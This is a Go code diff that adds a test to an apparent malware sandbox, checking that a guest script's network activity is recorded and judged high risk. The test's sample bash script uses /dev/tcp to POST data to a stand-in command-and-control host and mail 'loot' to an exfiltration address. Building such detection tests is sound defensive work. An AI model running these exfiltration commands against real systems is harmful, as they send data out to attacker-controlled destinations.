@@ -5,6 +5,7 @@ import (
 	"crypto/sha256"
 	"encoding/hex"
 	"fmt"
+	"net/netip"
 	"os"
 	"strings"
 	"sync"
@@ -14,6 +15,7 @@ import (
 	"github.com/digitalocean/go-libvirt"
 
 	"mailinspector/internal/sandbox/agent"
+	"mailinspector/internal/sandbox/fakenet"
 	"mailinspector/internal/testutil"
 )
 
@@ -339,4 +341,46 @@ func BenchmarkPoolAnalysis(b *testing.B) {
 	b.ReportMetric(float64(ph.ReadyMS)/n, "ready-ms/op")
 	b.ReportMetric(float64(ph.RunMS)/n, "run-ms/op")
 	b.ReportMetric(float64(ph.TeardownMS)/n, "teardown-ms/op")
+}
+
+// What the fake internet saw from the guest during the run is in the
+// report, and the rules judge it: a script that posts to a web server and
+// sends a mail is high risk with web-request and mail-out.
+func TestPoolAddsWhatTheFakeInternetSaw(t *testing.T) {
+	fn, err := fakenet.Start(netip.MustParseAddr("127.0.0.1"), fakenet.Ports{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer fn.Close()
+	b := newBench(t, 1)
+	p := b.pool(Options{Observed: func(guest string, since, until time.Time) []agent.Event {
+		var out []agent.Event
+		for _, c := range fn.Seen(guest, since, until) {
+			out = append(out, agent.Event{MS: c.At.Sub(since).Milliseconds(), Type: c.Kind, Addr: c.Name, Detail: c.Detail})
+		}
+		return out
+	}})
+	script := fmt.Sprintf(`#!/bin/bash
+exec 3<>/dev/tcp/127.0.0.1/%d
+printf 'POST /gate HTTP/1.0\r\nHost: c2.evil.example\r\nContent-Length: 4\r\n\r\ndata' >&3
+cat <&3 >/dev/null
+exec 4<>/dev/tcp/127.0.0.1/%d
+read -r greeting <&4
+printf 'HELO x\r\nMAIL FROM:<a@b.example>\r\nRCPT TO:<drop@exfil.example>\r\nDATA\r\n' >&4
+sleep 0.5
+printf 'Subject: loot\r\n\r\nloot\r\n.\r\nQUIT\r\n' >&4
+sleep 0.5
+`, fn.Bound.HTTP, fn.Bound.SMTP)
+	res, err := p.Submit(context.Background(), task(script))
+	if err != nil {
+		t.Fatal(err)
+	}
+	v := Judge(res.Report)
+	ids := map[string]bool{}
+	for _, m := range v.Matches {
+		ids[m.ID] = true
+	}
+	if !ids["web-request"] || !ids["mail-out"] || v.Risk != RiskHigh {
+		t.Fatalf("verdict %s; events %v", v.Summary(), res.Report.Events)
+	}
 }
